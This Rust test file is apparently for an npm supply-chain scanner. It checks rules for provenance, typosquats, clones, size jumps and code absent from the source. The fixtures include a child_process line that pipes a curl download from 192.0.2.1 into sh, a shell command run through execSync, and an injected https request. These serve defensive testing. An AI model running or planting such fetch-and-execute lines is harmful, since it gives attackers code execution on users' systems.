//! What the registry, a rebuild and the mill's cache know beside a file, and what follows from it.

use crate::samples::package;
use trustmill_core::port::scanner::{Context, Fingerprint, Job};
use trustmill_core::scan::{Conclusion, Finding};

const MANIFEST: &str = r#"=== package.json
{"name": "demo", "version": "1.0.1", "main": "index.js"}
"#;

fn job(files: &str, context: Context) -> Job {
    Job { context, ..package("npm", &format!("{MANIFEST}{files}")) }
}

fn findings(job: &Job, rule: &str) -> Vec<Finding> {
    let report = trustmill_scan::scan(job).unwrap();
    report.findings.into_iter().filter(|finding| finding.rule == rule).collect()
}

const PLAIN: &str = "=== index.js\nmodule.exports = (rows) => rows.map((row) => row.join(' ')).join('\\n')\n";

#[test]
fn a_young_dependency_that_nothing_imports_holds() {
    let before = "=== previous!/package.json\n{\"name\": \"demo\", \"version\": \"1.0.0\"}\n";
    let context = Context { young_dependencies: vec!["plain-crypto".into()], ..Context::default() };
    let held = trustmill_scan::scan(&job(&format!("{PLAIN}{before}"), context.clone())).unwrap();
    assert_eq!(held.conclusion, Conclusion::Hold, "{:?}", held.findings);
    let used = format!("=== index.js\nmodule.exports = require('plain-crypto/lib')\n{before}");
    assert!(trustmill_scan::scan(&job(&used, context)).unwrap().conclusion < Conclusion::Hold);
}

#[test]
fn a_release_that_lost_its_provenance_and_has_no_tag_is_held() {
    let both = Context { lost_provenance: Some(true), tagged: Some(false), ..Context::default() };
    let one = Context { tagged: Some(false), ..Context::default() };
    assert_eq!(trustmill_scan::scan(&job(PLAIN, both)).unwrap().conclusion, Conclusion::Hold);
    assert_eq!(trustmill_scan::scan(&job(PLAIN, one)).unwrap().conclusion, Conclusion::Note);
    assert_eq!(trustmill_scan::scan(&job(PLAIN, Context::default())).unwrap().conclusion, Conclusion::Clear);
}

#[test]
fn code_that_acts_and_is_not_in_the_source_is_held() {
    let context = Context { not_in_source: vec!["index.js".into()], ..Context::default() };
    let acts = "=== index.js\nrequire('child_process').execSync('id')\n";
    assert!(findings(&job(acts, context.clone()), "not-in-source")[0].weight >= 70);
    assert!(findings(&job(PLAIN, context), "not-in-source")[0].weight < 70);
}

#[test]
fn a_name_alone_is_no_typosquat() {
    let near = Context { resembles: vec!["chalk".into()], ..Context::default() };
    assert!(findings(&job(PLAIN, near.clone()), "typosquat").is_empty());
    let young = Context { project_age_days: Some(2), releases: Some(1), ..near };
    assert_eq!(findings(&job(PLAIN, young.clone()), "typosquat").len(), 1);
    let popular = Context { popular: Some(true), ..young };
    assert!(findings(&job(PLAIN, popular), "typosquat").is_empty());
}

#[test]
fn a_copy_with_an_edited_file_is_known_and_a_copy_of_itself_is_not() {
    let file = |at: usize, extra: &str| {
        format!(
            "=== lib/part{at}.js\nexports.part{at} = (text) => text.padStart({at}).repeat({at}).trim().toUpperCase()\n{extra}\n"
        )
    };
    let original: String = (0..6).map(|at| file(at, "")).collect();
    let copied: String = (0..6)
        .map(|at| file(at, if at == 3 { "require('https').get('https://example.com')" } else { "" }))
        .collect();
    let print = |name: &str| {
        let read = trustmill_scan::package::read(&job(&original, Context::default()));
        Fingerprint { name: name.into(), ..trustmill_scan::rules::fingerprint(&read) }
    };
    let context = |name: &str| Context { originals: vec![print(name)], ..Context::default() };
    let found = findings(&job(&copied, context("parts")), "clone");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].place.path, "lib/part3.js", "the edited file is shown");
    assert!(findings(&job(&copied, context("demo")), "clone").is_empty());
    assert!(findings(&job(PLAIN, context("parts")), "clone").is_empty());
}

#[test]
fn a_report_says_what_may_be_looked_up() {
    let needs =
        |names: &str| format!("package.json\n{{\"name\": \"demo\", \"dependencies\": {{{names}}}}}\n");
    let code = "=== a.js\nexports.text = (text) => text.padStart(4).repeat(4).trim().toUpperCase()\n";
    let now = needs("\"old\": \"1\", \"fresh\": \"1\"");
    let alone = trustmill_scan::scan(&job(&format!("=== {now}{code}"), Context::default())).unwrap();
    assert!(alone.leads.added.is_empty() && alone.leads.prints.len() == 1, "{:?}", alone.leads);
    let both = format!("=== {now}{code}=== previous!/{}", needs("\"old\": \"1\""));
    let compared = trustmill_scan::scan(&job(&both, Context::default())).unwrap();
    assert_eq!((compared.leads.added, compared.leads.prints), (vec!["fresh".into()], alone.leads.prints));
}

#[test]
fn code_that_grew_manifold_is_noted() {
    let before = "=== previous!/index.js\nexports.value = 1\n";
    let lines: String =
        (0..6000).map(|at| format!("exports.value{at} = 'some text number {at} of many'\n")).collect();
    let grown = format!("=== index.js\n{lines}{before}");
    assert_eq!(findings(&job(&grown, Context::default()), "size-jump").len(), 1);
    assert!(findings(&job(&format!("{PLAIN}{before}"), Context::default()), "size-jump").is_empty());
}

#[test]
fn what_the_release_before_did_as_well_weighs_less() {
    let acts =
        "index.js\nconst cp = require('child_process');\ncp.exec('curl -s http://192.0.2.1/x.sh | sh')\n";
    let before = "=== previous!/package.json\n{\"name\": \"demo\", \"version\": \"1.0.0\"}\n";
    let both = format!("=== {acts}=== previous!/{acts}{before}");
    let always = trustmill_scan::scan(&job(&both, Context::default())).unwrap();
    let alone = trustmill_scan::scan(&job(&format!("=== {acts}"), Context::default())).unwrap();
    let weight = |findings: &[Finding]| findings.iter().map(|finding| finding.weight).max().unwrap();
    assert!(weight(&always.findings) < weight(&alone.findings));
    assert!(always.findings.iter().all(|finding| !finding.new));
}
